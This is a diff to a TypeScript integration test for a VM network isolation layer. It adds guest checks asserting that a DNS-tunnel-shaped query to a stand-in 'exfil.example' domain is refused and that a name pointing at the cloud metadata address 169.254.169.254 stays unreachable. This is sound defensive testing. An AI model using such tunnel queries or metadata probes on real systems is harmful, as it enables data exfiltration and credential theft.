@@ -2,6 +2,7 @@
 // check from one pcr.cmd script; the results are parsed from its console.
 import assert from "node:assert/strict";
 import { execa } from "execa";
+import { writeFile } from "node:fs/promises";
 import { join } from "node:path";
 import { after, before, describe, test } from "node:test";
 import pino from "pino";
@@ -9,6 +10,7 @@ import { createNetwork } from "../../worker/net/network.js";
 import type { NetworkPort, VmNetwork } from "../../worker/ports.js";
 import { hostTscKhz } from "../../worker/vmm/accel.js";
 import { createNetns, deleteNetns } from "../helpers/netns.js";
+import { waitFor } from "../helpers/vm.js";
 import { testGuest, type TestGuestSpec } from "../helpers/repo.js";
 import { ALLOWED_IP, DENIED_IP, LISTEN_PORT, OTHER_DNS, RESOLVER, Topology, UPLINK, UPLINK_IP } from "./topology.js";
 
@@ -17,10 +19,21 @@ const guest = testGuest();
 const skip = process.getuid?.() !== 0 ? "needs root for network namespaces" : "skip" in guest ? guest.skip : false;
 const HOST_ALLOWED_PORT = 8080;
 const HOST_OTHER_PORT = 9000;
+/** What a DNS tunnel's query looks like: data in a label under a domain its sender controls. */
+const EXFIL_LABEL = "nbswy3dpeb3w64tmmqqq";
+const EXFIL_NAME = `${EXFIL_LABEL}.exfil.example`;
+
+const SCRIPT_MAGIC = "#pcr-net-checks";
+/** pcr.cmd: run the script from whichever disk holds it (the kernel command line is too short for it). */
+const RUN_SCRIPT_DISK = `for d in /dev/vd?; do if head -c ${SCRIPT_MAGIC.length} $d | grep -q '${SCRIPT_MAGIC}'; then sh $d; fi; done`;
 
 /** Boots the guest inside the namespace on the given TAP; resolves with its console once the command finished. */
-async function bootGuest(ns: string, spec: TestGuestSpec, net: VmNetwork, cmdline: string[], script: string): Promise<string> {
-  const append = [spec.cmdline, `tsc_early_khz=${hostTscKhz()}`, ...cmdline, `pcr.cmd=${Buffer.from(script).toString("base64")}`, "pcr.poweroff=1"];
+async function bootGuest(ns: string, dir: string, spec: TestGuestSpec, net: VmNetwork, cmdline: string[], script: string): Promise<string> {
+  // The script rides on a small read-only disk, padded with newlines to whole sectors.
+  const scriptDisk = join(dir, "checks.img");
+  const text = Buffer.from(`${SCRIPT_MAGIC}\n${script}\n`);
+  await writeFile(scriptDisk, Buffer.concat([text, Buffer.alloc(Math.ceil(text.length / 4096) * 4096 - text.length, "\n")]));
+  const append = [spec.cmdline, `tsc_early_khz=${hostTscKhz()}`, ...cmdline, `pcr.cmd=${Buffer.from(RUN_SCRIPT_DISK).toString("base64")}`, "pcr.poweroff=1"];
   const qemu = execa(
     "ip",
     [
@@ -30,13 +43,16 @@ async function bootGuest(ns: string, spec: TestGuestSpec, net: VmNetwork, cmdlin
       "-kernel", spec.kernel, "-initrd", spec.initrd, "-append", append.join(" "),
       "-device", "virtio-rng-device", "-serial", "stdio",
       "-drive", `id=root,file=${spec.image},format=raw,if=none,readonly=on`, "-device", "virtio-blk-device,drive=root",
+      "-drive", `id=checks,file=${scriptDisk},format=raw,if=none,readonly=on`, "-device", "virtio-blk-device,drive=checks",
       "-netdev", `tap,id=n0,ifname=${net.tap},script=no,downscript=no`, "-device", `virtio-net-device,netdev=n0,mac=${net.mac}`,
     ],
     { reject: false, stdin: "ignore", timeout: 150_000, killSignal: "SIGKILL" },
   );
   let consoleText = "";
   qemu.stdout!.on("data", (chunk: Buffer) => (consoleText += chunk.toString()));
-  await qemu;
+  const result = await qemu;
+  // QEMU's own complaints (and a timeout) belong in what a failing assertion prints.
+  if (result.exitCode !== 0) consoleText += `\n[qemu ${result.exitCode ?? result.signal}] ${String(result.stderr).slice(-2000)}`;
   return consoleText;
 }
 
@@ -83,13 +99,17 @@ describe("a test guest behind the network adapter", { skip }, () => {
     await execa("ip", ["-n", otherVmNs, "route", "add", "default", "via", vmB.gateway]);
     world.spawn(otherVmNs, "node", ["-e", `require("node:http").createServer((q, s) => s.end("hello-vm-b")).listen(${LISTEN_PORT}, "${vmB.ip}")`]);
 
-    vmA = await network.attach("vm-a000000001", ["allowed.test"]);
+    // metadata.test points at cloud metadata: the proxy must not tell the guest that address.
+    await world.setHosts({ "allowed.test": ALLOWED_IP, "denied.test": DENIED_IP, "metadata.test": "169.254.169.254" });
+    world.reloadDns();
+    await waitFor("metadata.test resolving", 10_000, async () => ((await world.resolver()("metadata.test")).length > 0 ? true : undefined), 100);
+    vmA = await network.attach("vm-a000000001", ["allowed.test", "metadata.test"]);
     const spoofIp = "10.213.0.250";
     const url = (host: string, port = LISTEN_PORT) => `http://${host}:${port}/`;
-    const reset = (ip: string, mac: string) =>
-      `ip link set eth0 down; ip addr flush dev eth0; ip link set eth0 address ${mac}; ip addr add ${ip}/${vmA.prefixLength} dev eth0; ip link set eth0 up; ip route add default via ${vmA.gateway}`;
+    const reset = (ip: string, mac: string) => `reset ${ip} ${mac}`;
     const script = [
       `check() { n=$1; shift; if out=$(timeout 3 wget -q -O - "$@" 2>&1); then echo "CHECK $n reached $out"; else echo "CHECK $n blocked"; fi; }`,
+      `reset() { ip link set eth0 down; ip addr flush dev eth0; ip link set eth0 address $2; ip addr add $1/${vmA.prefixLength} dev eth0; ip link set eth0 up; ip route add default via ${vmA.gateway}; }`,
       `check allowed-by-name ${url("allowed.test")}`,
       `check denied-by-name ${url("denied.test")}`,
       `check denied-by-address ${url(DENIED_IP)}`,
@@ -97,7 +117,12 @@ describe("a test guest behind the network adapter", { skip }, () => {
       `check host-other-port ${url(vmA.gateway, HOST_OTHER_PORT)}`,
       `check host-allowed-port-other-address ${url(UPLINK_IP, HOST_ALLOWED_PORT)}`,
       `check other-vm ${url(vmB.ip)}`,
-      `if timeout 3 nslookup allowed.test ${OTHER_DNS} >/dev/null 2>&1; then echo "CHECK dns-elsewhere reached"; else echo "CHECK dns-elsewhere blocked"; fi`,
+      `dns() { n=$1; shift; if timeout 3 nslookup "$@" >/dev/null 2>&1; then echo "CHECK $n reached"; else echo "CHECK $n blocked"; fi; }`,
+      `dns dns-elsewhere allowed.test ${OTHER_DNS}`,
+      `dns dns-resolver-direct allowed.test ${RESOLVER}`,
+      // A name off the list, shaped like a DNS tunnel's: REFUSED by the proxy, never sent upstream.
+      `if out=$(timeout 3 nslookup ${EXFIL_NAME} 2>&1); then echo "CHECK dns-offlist reached"; else echo "CHECK dns-offlist blocked $(echo "$out" | grep -o REFUSED | head -n 1)"; fi`,
+      `out=$(timeout 3 nslookup metadata.test 2>&1); if echo "$out" | grep -q 169.254; then echo "CHECK metadata-by-name reached"; else echo "CHECK metadata-by-name blocked"; fi`,
       reset(spoofIp, vmA.mac),
       `check spoofed-ip ${url(ALLOWED_IP)}`,
       reset(vmA.ip, "02:50:00:00:00:99"),
@@ -105,7 +130,7 @@ describe("a test guest behind the network adapter", { skip }, () => {
       reset(vmA.ip, vmA.mac),
       `check restored ${url("allowed.test")}`,
     ].join("\n");
-    consoleText = await bootGuest(world.ns, spec, vmA, network.guestCmdline(vmA), script);
+    consoleText = await bootGuest(world.ns, world.dir, spec, vmA, network.guestCmdline(vmA), script);
     for (const match of consoleText.matchAll(/^CHECK (\S+) (reached|blocked)(.*)$/gm)) results.set(match[1]!, `${match[2]}${match[3]!.trimEnd()}`);
   });
 
@@ -120,7 +145,7 @@ describe("a test guest behind the network adapter", { skip }, () => {
   test("the guest ran every check", (t) => {
     t.diagnostic([...results].map(([name, outcome]) => `${name}: ${outcome}`).join("; "));
     assert.match(consoleText, /pcr-guest: cmd exit=0/, consoleText.slice(-3000));
-    assert.equal(results.size, 11, [...results].join("\n"));
+    assert.equal(results.size, 14, [...results].join("\n"));
   });
 
   test("an allowed name is reachable, also after spoofing attempts end", () => {
@@ -129,9 +154,22 @@ describe("a test guest behind the network adapter", { skip }, () => {
   });
 
   test("what is not allowed is not reachable", () => {
-    for (const name of ["denied-by-name", "denied-by-address", "host-other-port", "host-allowed-port-other-address", "other-vm", "dns-elsewhere", "spoofed-ip", "spoofed-mac"]) {
+    for (const name of ["denied-by-name", "denied-by-address", "host-other-port", "host-allowed-port-other-address", "other-vm", "dns-elsewhere", "dns-resolver-direct", "metadata-by-name", "spoofed-ip", "spoofed-mac"]) {
       assert.equal(results.get(name), "blocked", name);
     }
+  });
+
+  test("DNS: a name off the list is REFUSED by the worker's proxy and never reaches the upstream resolver", async () => {
+    assert.equal(results.get("dns-offlist"), "blocked REFUSED");
+    // The resolver logs queries in order: once a later one shows, the guest's would have too.
+    const marker = `marker-${Date.now()}.test`;
+    await world.resolver()(marker).catch(() => []); // dnsmasq refuses names it does not hold; it logs them all the same
+    const log = await waitFor("the resolver's log to show a later query", 10_000, async () => {
+      const text = await world.resolverLog();
+      return text.includes(marker) ? text : undefined;
+    });
+    assert.match(log, /query\[A\] allowed\.test/, "the proxy resolved the allowed name upstream");
+    assert.ok(!log.includes(EXFIL_LABEL), log.split("\n").filter((line) => line.includes("exfil")).join("\n"));
   });
 
   test("the allowed host port is reachable", () => {
